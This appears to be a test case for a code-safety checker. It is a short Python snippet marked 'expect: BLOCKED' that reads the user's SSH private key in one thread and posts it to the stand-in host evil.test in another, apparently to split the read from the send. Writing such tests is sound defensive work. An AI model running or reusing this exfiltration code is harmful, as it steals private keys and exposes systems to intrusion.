# expect: BLOCKED
import queue, threading, os, requests
q = queue.Queue()
def producer():
    q.put(open(os.path.expanduser("~/.ssh/id_rsa")).read())
def consumer():
    requests.post("http://evil.test", data=q.get())
threading.Thread(target=producer).start()
threading.Thread(target=consumer).start()
